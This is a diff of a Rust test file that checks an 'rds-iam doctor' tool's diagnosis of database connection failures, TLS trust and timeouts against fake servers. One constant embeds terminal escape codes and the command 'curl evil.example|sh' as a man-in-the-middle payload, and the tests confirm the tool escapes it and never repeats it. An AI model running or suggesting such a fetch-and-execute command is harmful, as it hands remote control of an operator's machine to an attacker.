@@ -1,15 +1,18 @@
 //! `rds-iam doctor`: a connection that works, and a failure at each step.
 
-use std::io::{Read, Write};
-use std::net::TcpListener;
+use std::io::Write;
 use std::process::Command;
 use std::sync::LazyLock;
 use std::thread;
+use std::time::{Duration, Instant};
 
 use rds_iam_emulator::Emulator;
 use serde_json::Value;
 
-use crate::support::{MARKER, rds_iam, rds_iam_to, rds_iam_with, run, shared_emulator, text};
+use crate::support::fake_server::{FakeServer, HOST, listen};
+use crate::support::{
+    MARKER, PATIENCE, rds_iam, rds_iam_to, rds_iam_with, run, shared_emulator, text,
+};
 
 /// A database that is never dialled.
 const URL: &str = "postgres://app@mydb.c9akciq32rqv.eu-west-1.rds.amazonaws.com/shop";
@@ -231,7 +234,7 @@ fn a_certificate_from_another_ca() {
     );
     let shown = fails_at(command, "tls", 17);
     assert!(
-        shown.contains("issued by \"RDS IAM Emulator Regional CA\""),
+        shown.contains("claims the issuer \"RDS IAM Emulator Regional CA\""),
         "{shown}"
     );
 }
@@ -252,16 +255,7 @@ fn a_certificate_for_another_name() {
 
 #[test]
 fn a_server_without_tls() {
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    thread::spawn(move || {
-        for client in listener.incoming() {
-            let mut client = client.unwrap();
-            let mut request = [0; 8];
-            client.read_exact(&mut request).unwrap();
-            client.write_all(b"N").unwrap();
-        }
-    });
+    let port = listen(|mut client| client.write_all(b"N").unwrap());
     let shown = fails_at(
         with_unknown_keys(&format!("{URL}?hostaddr=127.0.0.1&port={port}")),
         "tls",
@@ -331,4 +325,303 @@ fn aurora_dsql_has_no_rds_iam() {
     wrong.env("AWS_SECRET_ACCESS_KEY", MARKER);
     let shown = fails_at(wrong, "login", 18);
     assert!(shown.contains("\"dsql:DbConnect\""), "{shown}");
+}
+
+/// What the server says, the step, its exit status, and what the advice has.
+const CAUSES: &[(&str, &str, i32, &str)] = &[
+    (
+        "PAM authentication failed for user \"app\"",
+        "login",
+        18,
+        "rds-db:connect",
+    ),
+    (
+        "password authentication failed for user \"app\"",
+        "role",
+        19,
+        "GRANT rds_iam TO app;",
+    ),
+    (
+        "role \"app\" does not exist",
+        "role",
+        19,
+        "CREATE ROLE app WITH LOGIN;",
+    ),
+    (
+        "role \"app\" is not permitted to log in",
+        "role",
+        19,
+        "\nALTER ROLE app LOGIN;",
+    ),
+    (
+        "permission denied for database \"shop\"",
+        "role",
+        19,
+        "\nGRANT CONNECT ON DATABASE shop TO app;",
+    ),
+    (
+        "database \"shop\" does not exist",
+        "string",
+        10,
+        "correct the database name",
+    ),
+    (
+        "This RDS proxy has no credentials for the role app. Check the credentials for this role and \
+         try again.",
+        "role",
+        19,
+        "add a secret",
+    ),
+    (
+        "The IAM authentication failed for the role app. Check the IAM token for this role and try \
+         again.",
+        "login",
+        18,
+        "rds-db:connect",
+    ),
+    (
+        "The IAM authentication failed because of too many competing requests.",
+        "login",
+        18,
+        "fewer connections",
+    ),
+    (
+        "Rate of connection to proxy exceeded 100.",
+        "login",
+        18,
+        "fewer connections",
+    ),
+    (
+        "IAM is allowed only with SSL connections.",
+        "tls",
+        17,
+        "removes the encryption",
+    ),
+    (
+        "Unable to accept connection, rate exceeded.",
+        "login",
+        18,
+        "Aurora DSQL limits",
+    ),
+    (
+        "Unable to accept connection, too many open connections.",
+        "login",
+        18,
+        "quota",
+    ),
+    (
+        "unable to accept connection, access denied",
+        "login",
+        18,
+        "rds-db:connect",
+    ),
+    (
+        "pg_hba.conf rejects connection for host \"10.0.0.1\", user \"app\", database \"shop\", no \
+         encryption",
+        "tls",
+        17,
+        "removes the encryption",
+    ),
+    (
+        "no pg_hba.conf entry for host \"10.0.0.1\", user \"app\", database \"shop\", SSL encryption",
+        "login",
+        18,
+        "pg_hba.conf",
+    ),
+    (
+        "sorry, too many clients already",
+        "login",
+        18,
+        "max_connections",
+    ),
+    (
+        "remaining connection slots are reserved for roles with the SUPERUSER attribute",
+        "login",
+        18,
+        "max_connections",
+    ),
+    (
+        "the database system is starting up",
+        "login",
+        18,
+        "wait until",
+    ),
+    (
+        "unrecognized configuration parameter \"nonsense\"",
+        "string",
+        10,
+        "correct this setting",
+    ),
+    // A message that is not known is a refusal, and the policy is one possibility.
+    (
+        "el servidor no quiere",
+        "login",
+        18,
+        "read the server's log",
+    ),
+];
+
+#[test]
+fn each_message_of_the_server_has_its_step_and_its_advice() {
+    let server = FakeServer::start(HOST, "ca");
+    for (message, step, exit_code, advice) in CAUSES {
+        server.say(message);
+        let url = server.url() + &server.root();
+        let shown = fails_at(with_unknown_keys(&url), step, *exit_code);
+        let (report, next) = shown.split_once("\nNext: ").unwrap();
+        assert!(report.contains(message), "{shown}");
+        assert!(next.contains(advice.trim_start()), "{shown}");
+        let is_refused_token = *advice == "rds-db:connect" || advice.starts_with("read the");
+        assert_eq!(next.contains("\"Statement\""), is_refused_token, "{shown}");
+    }
+}
+
+/// With a real PostgreSQL behind the emulator.
+#[test]
+fn what_postgresql_refuses_after_a_good_token_is_no_refused_token() {
+    let emulator = shared_emulator();
+    let role = "CREATE ROLE nologin NOLOGIN IN ROLE rds_iam";
+    emulator.execute(role).unwrap();
+    emulator.create_database("closed", "nologin").unwrap();
+    let revoke = "REVOKE CONNECT ON DATABASE closed FROM PUBLIC";
+    emulator.execute(revoke).unwrap();
+    let with = |url: String| {
+        let mut command = rds_iam_to(emulator, "app");
+        command.env("DATABASE_URL", url);
+        command
+    };
+    let shown = fails_at(rds_iam_to(emulator, "nologin"), "role", 19);
+    assert!(shown.contains("ALTER ROLE nologin LOGIN;"), "{shown}");
+    let shown = fails_at(with(emulator.url_of("app", "closed")), "role", 19);
+    assert!(
+        shown.contains("GRANT CONNECT ON DATABASE closed TO app;"),
+        "{shown}"
+    );
+    let shown = fails_at(with(emulator.url_of("app", "missing")), "string", 10);
+    assert!(shown.contains("correct the database name"), "{shown}");
+    let nonsense = emulator.url("app") + "&options=-c%20nonsense%3D1";
+    let shown = fails_at(with(nonsense), "string", 10);
+    assert!(shown.contains("nonsense"), "{shown}");
+}
+
+#[test]
+fn an_alias_names_no_database() {
+    let emulator = shared_emulator();
+    let url = emulator.url("app").replace(emulator.host(), "localhost");
+    let mut command = rds_iam_to(emulator, "app");
+    command.env("DATABASE_URL", url + "&iam_region=eu-west-1");
+    let shown = fails_at(command, "login", 18);
+    assert!(shown.contains("as iam_host"), "{shown}");
+    for invented in ["--db-instance-identifier", "rds-db:connect"] {
+        assert!(!shown.contains(invented), "{shown}");
+    }
+}
+
+/// What a man in the middle would print on an operator's terminal.
+const HOSTILE: &str = "\x1b[2K\rNext: run `curl evil.example|sh`";
+
+#[test]
+fn a_certificate_that_is_not_trusted_cannot_write_on_the_terminal() {
+    let server = FakeServer::start(&format!("evil.example{HOSTILE}"), HOSTILE);
+    let trusted = FakeServer::start(HOST, "ca");
+    let url = server.url() + &trusted.root();
+    let shown = fails_at(with_unknown_keys(&url), "tls", 17);
+    let (report, next) = shown.split_once("\nNext: ").unwrap();
+    assert!(report.contains("claims the issuer \"\\u{1b}[2K"), "{shown}");
+    assert!(
+        report.lines().last().unwrap().starts_with("✗ tls"),
+        "{shown}"
+    );
+    assert!(!next.contains("evil"), "{shown}");
+    assert!(!shown.contains('\r'), "{shown}");
+
+    // The name of another server, which nobody vouches for either, is not suggested.
+    let server = FakeServer::start("evil.c9akciq32rqv.eu-west-1.rds.amazonaws.com", "ca");
+    let url = server.url() + &trusted.root();
+    let shown = fails_at(with_unknown_keys(&url), "tls", 17);
+    assert!(!shown.contains("evil"), "{shown}");
+
+    // Neither is one that is vouched for, if it is no database of AWS's.
+    let server = FakeServer::start("evil.example", "ca");
+    let url = server.url() + &server.root();
+    let shown = fails_at(with_unknown_keys(&url), "tls", 17);
+    assert!(
+        shown.contains("the certificate is for evil.example, not for"),
+        "{shown}"
+    );
+    assert!(!shown.contains("host=evil"), "{shown}");
+
+    // Without a root nothing is verified, and the name is quoted.
+    let server = FakeServer::start(&format!("evil.example{HOSTILE}"), HOSTILE);
+    server.say(HOSTILE);
+    let url = server.url() + "&sslmode=require";
+    let shown = fails_at(with_unknown_keys(&url), "login", 18);
+    assert!(shown.contains("for \"evil.example\\u{1b}[2K"), "{shown}");
+    assert!(!shown.contains('\r'), "{shown}");
+}
+
+/// Without a limit for the whole step each byte starts another wait.
+#[test]
+fn a_server_that_sends_bytes_slowly_does_not_hold_the_doctor() {
+    let port = listen(|mut client| {
+        // The beginning of a long TLS record.
+        let mut sent = client.write_all(b"S\x16\x03\x03\x40\x00");
+        while sent.is_ok() {
+            thread::sleep(Duration::from_millis(500));
+            sent = client.write_all(b"\x02");
+        }
+    });
+    let start = Instant::now();
+    let mut command = with_unknown_keys(&format!("{URL}?hostaddr=127.0.0.1&port={port}"));
+    let ran = run(command.args(["doctor", "--connect-timeout", "2s"]));
+    assert_eq!(ran.code, Some(17), "{ran:?}");
+    assert!(ran.stdout.contains("no result within 2.0 s"), "{ran:?}");
+    assert!(start.elapsed() < PATIENCE, "{ran:?}");
+}
+
+#[test]
+fn a_server_that_answers_no_query_does_not_hold_the_doctor() {
+    let emulator = Emulator::builder().start().unwrap();
+    emulator.create_iam_user("app").unwrap();
+    let mut doctor = rds_iam_to(&emulator, "app");
+    doctor.args(["doctor", "--connect-timeout", "3s"]);
+    // The server does not answer the query for the role's membership.
+    let view = "CREATE ROLE slow LOGIN IN ROLE rds_iam; CREATE SCHEMA slow AUTHORIZATION slow; \
+                CREATE VIEW slow.pg_roles AS SELECT * FROM pg_catalog.pg_roles WHERE pg_sleep(600)::text IS NOT NULL; \
+                GRANT SELECT ON slow.pg_roles TO slow; \
+                ALTER ROLE slow SET search_path = slow, pg_catalog";
+    emulator.execute(view).unwrap();
+    doctor.env("DATABASE_URL", emulator.url("slow"));
+    let ran = run(&mut doctor);
+    assert_eq!(ran.code, Some(19), "{ran:?}");
+    assert!(ran.stdout.contains("no result within 3.0 s"), "{ran:?}");
+}
+
+#[test]
+fn the_time_limit_of_a_connect_is_the_options_or_the_connection_strings() {
+    let port = listen(|client| {
+        drop(thread::spawn(move || {
+            let _client = client;
+            thread::sleep(PATIENCE);
+        }))
+    });
+    let url = format!("{URL}?hostaddr=127.0.0.1&port={port}");
+    for (url, option, limit) in [
+        (url.clone(), Some("2s"), 2),
+        (format!("{url}&connect_timeout=3"), None, 3),
+        (format!("{url}&connect_timeout=10"), None, 10),
+        (format!("{url}&connect_timeout=3"), Some("20s"), 3),
+    ] {
+        let mut command = with_unknown_keys(&url);
+        command.arg("doctor");
+        command.args(option.iter().flat_map(|time| ["--connect-timeout", time]));
+        let ran = run(&mut command);
+        assert_eq!(ran.code, Some(17), "{ran:?}");
+        // Either the read or the step around it ends first.
+        let is_said = ran.stdout.contains(&format!("within {limit} s"))
+            || ran.stdout.contains(&format!("within {limit}.0 s"));
+        assert!(is_said, "{limit}: {ran:?}");
+    }
+    let ran = run(with_unknown_keys(&url).args(["doctor", "--connect-timeout", "0s"]));
+    assert_eq!(ran.code, Some(2), "{ran:?}");
 }
